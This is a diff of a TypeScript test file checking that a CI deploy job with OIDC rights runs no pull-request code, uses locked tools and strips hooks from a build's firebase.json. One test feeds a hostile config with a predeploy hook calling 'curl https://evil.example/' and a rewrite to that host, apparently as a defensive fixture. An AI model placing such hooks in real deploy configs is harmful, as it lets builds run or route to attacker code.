@@ -1,4 +1,6 @@
-import {readFileSync} from 'node:fs';
+import {execFileSync} from 'node:child_process';
+import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
+import {tmpdir} from 'node:os';
 import path from 'node:path';
 import {describe, expect, test} from 'vitest';
 import {parse} from 'yaml';
@@ -15,6 +17,7 @@ interface Workflow {
 
 interface Job {
   readonly permissions?: Readonly<Record<string, string>>;
+  readonly environment?: string | {readonly name: string};
   readonly steps: readonly Step[];
   readonly 'timeout-minutes'?: number;
 }
@@ -23,6 +26,7 @@ interface Step {
   readonly if?: string;
   readonly uses?: string;
   readonly run?: string;
+  readonly 'working-directory'?: string;
   readonly env?: Readonly<Record<string, string>>;
   readonly with?: Readonly<Record<string, unknown>>;
 }
@@ -151,19 +155,108 @@ test('the main branch gets every test, a pull request the usual ones', () => {
   );
 });
 
-test('the job with the right to deploy runs no code of the repository', () => {
-  const jobs = Object.values(workflow('.github/workflows/deploy.yml').jobs);
-  const trusted = jobs.filter(
+describe('deploying', () => {
+  const deploy = workflow('.github/workflows/deploy.yml').jobs;
+  const trusted = Object.values(deploy).filter(
     ({permissions}) => permissions?.['id-token'] === 'write',
   );
-  expect(trusted).toHaveLength(1);
-  for (const {uses = '', run = ''} of trusted[0]?.steps ?? []) {
-    expect(uses).not.toMatch(/checkout|^\.\//);
-    expect(run).not.toMatch(/npm (?:ci|install|run|test)/);
-    // A fixed version of what it gets.
-    expect(run).not.toContain('@latest');
-  }
+  const steps = trusted[0]?.steps ?? [];
+
+  test('is the right of one job, bound to its environment', () => {
+    expect(trusted).toHaveLength(1);
+    const environments = Object.values(deploy).map(({environment}) =>
+      typeof environment === 'string' ? environment : environment?.name,
+    );
+    // What is allowed hangs on these, not on a file that a branch can change.
+    expect(environments).toEqual([
+      "${{ github.event_name == 'push' && 'production-build' || 'preview-build' }}",
+      "${{ github.event_name == 'push' && 'production' || 'preview' }}",
+    ]);
+    expect(workflow('.github/workflows/deploy.yml').on).toMatchObject({
+      push: {branches: ['main']},
+    });
+    for (const step of steps) {
+      expect(JSON.stringify(step)).not.toContain('secrets.');
+    }
+  });
+
+  test('runs nothing of a pull request, and only locked tools', () => {
+    for (const {uses = '', run = '', with: inputs} of steps) {
+      expect(uses).not.toMatch(/^\.\//);
+      if (uses.includes('checkout')) {
+        expect(inputs).toMatchObject({
+          ref: '${{ github.event.pull_request.base.sha || github.sha }}',
+          'sparse-checkout': '.github/deploy',
+        });
+      }
+      expect(run).not.toMatch(/\bnpx\b|npm (?:install|run|test)|@latest/);
+      expect(run.match(/npm ci\b.*/g) ?? []).toEqual(
+        run.includes('npm ci')
+          ? ['npm ci --ignore-scripts --prefix .github/deploy']
+          : [],
+      );
+    }
+    const tools = JSON.parse(text('.github/deploy/package.json')) as {
+      scripts?: object;
+      dependencies: Record<string, string>;
+    };
+    expect(tools.scripts).toBeUndefined();
+    const lock = JSON.parse(text('.github/deploy/package-lock.json')) as {
+      packages: Record<
+        string,
+        {version: string; integrity?: string; link?: boolean}
+      >;
+    };
+    for (const [name, version] of Object.entries(tools.dependencies)) {
+      expect(lock.packages[`node_modules/${name}`]?.version).toBe(version);
+    }
+    expect(
+      Object.entries(lock.packages).filter(
+        ([name, {integrity}]) => name && !integrity,
+      ),
+    ).toEqual([]);
+  });
+
+  test('takes the headers of a build and leaves its hooks behind', () => {
+    const steppedOver = steps.find(({run}) => run?.includes('configure.mjs'));
+    expect(steppedOver?.run).toContain('> site/firebase.json');
+    const publish = steps.find(({run}) => run?.includes('bin/firebase'));
+    expect(publish?.['working-directory']).toBe('site');
+
+    const made = JSON.parse(text('firebase.json')) as {
+      hosting: {headers: unknown[]};
+    };
+    const changed = {
+      hosting: {
+        ...made.hosting,
+        public: '/',
+        predeploy: 'curl https://evil.example/',
+        rewrites: [{source: '**', destination: 'https://evil.example/'}],
+      },
+      functions: {predeploy: ['id']},
+    };
+    expect(JSON.parse(configure(changed))).toEqual(made);
+    expect(() =>
+      configure({hosting: {headers: [{source: {a: 1}, headers: []}]}}),
+    ).toThrow('not a text');
+  });
 });
+
+/** What the deploying job makes of a build's firebase.json. */
+function configure(firebase: object): string {
+  const folder = mkdtempSync(path.join(tmpdir(), 'deploy-'));
+  try {
+    const file = path.join(folder, 'firebase.json');
+    writeFileSync(file, JSON.stringify(firebase));
+    return execFileSync(
+      process.execPath,
+      ['.github/deploy/configure.mjs', file],
+      {cwd: ROOT, encoding: 'utf8', stdio: 'pipe'},
+    );
+  } finally {
+    rmSync(folder, {recursive: true});
+  }
+}
 
 test('updates leave alone what is held on purpose', () => {
   const {updates} = parse(text('.github/dependabot.yml')) as {
